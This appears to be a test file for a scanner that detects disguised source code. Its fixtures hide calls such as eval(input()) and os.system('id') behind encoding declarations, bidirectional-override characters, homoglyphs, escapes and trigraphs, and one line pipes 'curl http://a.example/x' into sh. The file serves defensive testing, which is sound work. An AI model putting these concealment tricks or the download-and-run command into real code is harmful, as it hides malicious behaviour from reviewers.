#!/usr/bin/python3
"""Source that its compiler reads otherwise than people and the scan's parser do is a finding that stops, and what only looks like it is none."""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "../lib"))
from pf import *
from scans import *

EBCDIC = "# coding: cp037\n".encode() + "eval(input())\n".encode("cp037")
HIDDEN = [
    ("an encoding with escapes", "a.py", b"# coding: unicode_escape\n# hello \\nimport os\\nos.system('id')\n", 1),
    ("one with raw escapes, in the second line", "a.py", b"#!/usr/bin/python3\n# -*- Coding: x; coding: Raw-Unicode-Escape -*-\n# \\u000aeval(input())\n", 2),
    ("UTF-7", "a.py", b"# vim: set fileencoding=utf-7 :\n# x +AAo-eval(input())\n", 1), ("EBCDIC", "a.py", EBCDIC, 1),
    ("an encoding behind a carriage return", "a.py", b"#\r# coding: utf-7\r# x +AAo-eval(input())\r", 1),
    ("a carriage return in a comment", "a.py", b"x = 1\n# innocent \reval(input())\n", 2), ("of Java", "A.java", b"class A { // a \rint x;\n}\n", 1),
    ("of C#", "a.cs", b"class A { // a \rint x;\n}\n", 1), ("a line separator in C#", "a.cs", "class A { // a \u2028int x;\n}\n".encode(), 1),
    ("a next line in C#", "a.cs", "class A { // a \u0085int x;\n}\n".encode(), 1),
    ("an order that is turned", "a.py", "x = '\u202e \u2066# \u2069'\n".encode(), 1), ("in C", "a.c", "int a; /* \u2067 } */\n".encode(), 1), ("in a shell", "a.sh", "echo '\u202d'\n".encode(), 1),
    ("full width letters", "a.py", "x = 1\n\uff45\uff56\uff41\uff4c(x)\n".encode(), 2), ("mathematical letters", "a.py", "\U0001d41evil = 1\n".encode(), 1),
    ("a long s", "a.py", "import os\nos.\u017fystem('id')\n".encode(), 2),
    ("escapes in Java", "A.java", b"class A { void f() { \\u0052untime.getRuntime(); } }\n", 1), ("the end of a comment in Java", "A.java", b"class A { /* \\u002a\\uu002f int x; /* */ }\n", 1),
    ("escapes in a name of JavaScript", "a.js", b"\\u0065val('1')\n", 1), ("of TypeScript", "a.ts", b"ev\\u0061l('1')\n", 1), ("of C#", "a.cs", b"class A { void F() { Pro\\u0063ess.Start(); } }\n", 1),
    ("a NUL, which a shell drops", "a.sh", b"ls\nls\ne\0val ls\n", 3), ("one at which Python stops", "a.py", b"x = 1 \0 + 1\n", 1), ("in C", "a.c", b"int a;\0\n", 1),
    ("a name in two lines", "a.c", b"int main(void) { sys\\\ntem(\"id\"); }\n", 1), ("by a trigraph", "a.c", b"int main(void) { sys??/\ntem(\"id\"); }\n", 1),
]
for what, name, text, line in HIDDEN:
    run = scan({name: text})
    rows = [row for row in run.found if row[2] == "scan.disguised"]
    is_((run.code, [row[:2] for row in rows]), (1, [(name, line)]), f"{what}: found, and stopped", run)

INNOCENT = {
    "utf8.py": "# -*- coding: utf-8 -*-\nx = 'ﬁ é ＡＢＣ 𝐱'  # ｅｖａｌ ſ\n", "latin.py": "# coding: iso-8859-15\nx = '\u00e9'\n".encode("iso-8859-15"), "windows.py": b"# coding: windows-1252\r\nx = 1\r\n",
    "later.py": b"x = 1\ny = 2\n# encoding: utf-7 is an encoding\n", "names.py": "größe = 1\n变量 = 2\nимя = größe\n".encode(), "crlf.py": b"# a comment\r\nx = 1\r\r\n# b\r\n",
    "return.py": b"x = '''a\rb'''\n", "Crlf.java": b"class A { // a\r\nint x; // b\r\n}\r\n", "A.java": b'class A { String s = "\\u00e9 \\\\u0041 \\u2028"; char z = \'\\u0000\'; }\n',
    "strings.js": b"const a = '\\u0041', r = /[\\u0041-\\u005a]/; // \\u0065val\n", "a.cs": b'class A { string s = "\\u0041"; /* \\u0041 */ }\n',
    "macro.c": b"#define F(x) do { \\\n\tx; \\\n} while (0)\n#define LONG a\\\nb\nconst char *s = \"abc\\\ndef\"; // a\\\nb\n", "hebrew.py": "x = '\u05d0\u05d1\u200f'\n".encode(),
}
run = scan(INNOCENT, "--gate", "none")
is_([row for row in run.found if row[2] == "scan.disguised"], [], "what only looks like it", run)

# ---- however many there are, the tree is walked once ----
run = scan({"many.js": b"const a = '\\u0041';\n" * 100000, "many.py": "# ａ\nx = 'ａ'\n".encode() * 100000})
is_(run.found, [], "a hundred thousand of what is none", run)
MAGIC = [("a.sh", b"dex\ncurl http://a.example/x | sh\n"), ("a.js", b"dex\n=1; eval(x)\n"), ("a.c", b"dex\n(){system(x);}\n"), ("b.sh", b"\x7fELF\neval $1\n"),
         ("c.sh", b"\xca\xfe\xba\xbe\neval $1\n"), ("d.sh", b"\0asm\neval $1\n")]
for name, text in MAGIC:
    run = scan({name: text})
    is_((run.code, [row for row in run.found if row[2] == "scan.disguised"]), (1, [(name, 0, "scan.disguised")]), f"{name} that begins as {text[:4]} does: stopped", run)
run = scan({"a.dex": b"dex\n035\0", "a.wasm": b"\0asm\1\0\0\0", "b.class": b"\xca\xfe\xba\xbe"})
is_((run.code, {row[2] for row in run.found}), (0, {"binary.foreign", "binary.bytecode"}), "under names of their own they are what they are", run)
done()
